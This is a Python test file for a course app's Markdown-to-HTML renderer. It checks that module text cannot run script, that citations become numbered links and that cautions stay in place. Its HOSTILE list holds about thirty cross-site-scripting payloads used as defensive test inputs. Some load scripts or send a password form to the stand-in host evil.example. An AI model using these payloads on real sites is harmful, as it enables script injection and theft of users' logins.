"""What a module's text becomes: nothing that runs, sources as numbers, cautions in their places."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mentor_training.learning.markdown import render_section, sources_in, sources_of, to_html, unplaced_cautions
from mentor_training.program.catalog import Caution, Module, Section, Source

MODULE = Module(
    "safety",
    "Safety",
    1,
    20,
    sections=(Section("hands", "Hands", "Wash for 20 seconds [source: cdc].\n\n[caution: call]\n\nThen dry."),),
    sources=(Source("aha", "AHA", "S2"), Source("cdc", "CDC", "S"), Source("ours", "Ours", "P"), Source("m", "M", "M")),
    cautions=(Caution("call", "If in doubt, call."), Caution("late", "Placed nowhere.")),
)


class Everything(HTMLParser):
    """Collects every tag and every attribute of a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag with its attributes."""
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]


# Ways in which HTML runs script, after the OWASP Cross Site Scripting Prevention and Filter Evasion cheat sheets
# (from memory).
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![picture](x.png){onerror=alert(1)}",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "Text {: onclick=alert(1) style='x' id=content }",
    "### Heading {: onmouseover=alert(1) }",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    '!!! danger "<img src=x onerror=alert(1)>"\n    text',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '<a class="source" href="javascript:alert(1)">1</a>',
    "[source: cdc](javascript:alert(1))",
)
HARMLESS_ATTRIBUTES = {"href", "title", "rel", "class", "start", "role", "aria-label", "tabindex", "scope"}


def assert_harmless(html: str) -> None:
    """Fail if anything in a text could run, load, submit or restyle."""
    found = Everything(html)
    assert found.tags.isdisjoint(
        {"script", "style", "img", "svg", "math", "iframe", "form", "input", "base", "meta", "link", "object", "embed"}
    )
    assert found.attributes <= HARMLESS_ATTRIBUTES
    for address in found.addresses:
        assert address.startswith(("#", "/", "http://", "https://", "mailto:", "tel:")) or ":" not in address


@pytest.mark.parametrize("text", HOSTILE)
def test_html_in_a_module_cannot_run_script(text: str) -> None:
    """Every way in is closed, alone and in the middle of a text."""
    for whole in (text, f"Before\n\n{text}\n\nafter", f"- item {text}", f"> {text}"):
        assert_harmless(to_html(whole, ("cdc",)))


parts = st.sampled_from(
    (*HOSTILE, "<", ">", '"', "'", "&lt;", "`", "\n", "\n\n", "    ", "*", "|", "[source: cdc]", "a")
)


@given(st.lists(parts, max_size=12).map("".join))
def test_no_mixture_of_them_runs_either(text: str) -> None:
    """Put together in any order, whole or cut short."""
    assert_harmless(to_html(text, ("cdc",)))
    assert_harmless(to_html(text[: len(text) // 2], ("cdc",)))


def test_the_texts_own_forms_stay() -> None:
    """Lists, emphasis, tables, notes and links are what a module is made of."""
    html = to_html('1. **One**\n2. Two\n\n!!! note "Mind"\n    this\n\n[Open](https://example.org)\n\n### Sub\n')
    for part in ("<ol>", "<strong>One</strong>", 'class="admonition"', 'href="https://example.org"', "<h3>Sub</h3>"):
        assert part in html


def test_headings_begin_one_level_below_the_one_above_them() -> None:
    """No level is left out, on a page of one section as on the page of the whole module."""
    assert "<h2>Sub</h2>" in to_html("### Sub", top=2)
    assert "<h3>Sub</h3>" in to_html("### Sub", top=3)
    assert "<h3>Deeper</h3>" in to_html("#### Deeper", top=2)


def test_a_source_becomes_its_number_in_the_list() -> None:
    """The second source of the file is number 2 wherever it is cited."""
    (before, *_) = render_section(MODULE, MODULE.sections[0])
    assert 'href="#source-2"' in str(before.html)
    assert ">[2]</a>." in str(before.html)


def test_a_source_in_code_or_of_another_name_stays_as_it_is_written() -> None:
    """A mark in code shows how to write marks; an unknown source is not given a number."""
    assert "<code>[source: cdc]</code>" in to_html("`[source: cdc]`", ("cdc",))
    assert "[source: other]" in to_html("[source: other]", ("cdc",))


def test_each_source_says_how_surely_it_is_known() -> None:
    """What was read elsewhere or comes from memory asks to be checked against the current original."""
    marks = {one.source.mark: one.mark for one in sources_of(MODULE)}
    for mark in ("S2", "M"):
        assert "check against the current original" in marks[mark]
    for mark in ("S", "P"):
        assert "check against" not in marks[mark]
    assert [one.number for one in sources_in(MODULE, MODULE.sections[0])] == [2]


def test_a_caution_stands_where_the_text_puts_it() -> None:
    """Between what comes before it and what comes after it, each whole HTML of its own."""
    pieces = render_section(MODULE, MODULE.sections[0])
    assert [piece.caution for piece in pieces] == ["", "call", ""]
    assert str(pieces[2].html).strip() == "<p>Then dry.</p>"
    assert unplaced_cautions(MODULE) == ("late",)


def test_a_caution_in_fenced_code_is_text() -> None:
    """So that a module can show how to write one."""
    section = Section("s", "S", "```\n[caution: call]\n```")
    assert [piece.caution for piece in render_section(MODULE, section)] == [""]


def test_a_table_can_be_scrolled_and_says_what_it_heads() -> None:
    """A wide one gets room of its own with a name; a quotation mark in a head does not end the name."""
    html = to_html('| Say "x" | Leave |\n| - | - |\n| a | b |')
    assert '<th scope="col">Leave</th>' in html
    assert 'aria-label="Table: Say &quot;x&quot;, Leave" tabindex="0"' in html
    assert_harmless(html)


def test_the_same_text_is_rendered_once() -> None:
    """The second time the very same pieces come back."""
    assert render_section(MODULE, MODULE.sections[0]) is render_section(MODULE, MODULE.sections[0])
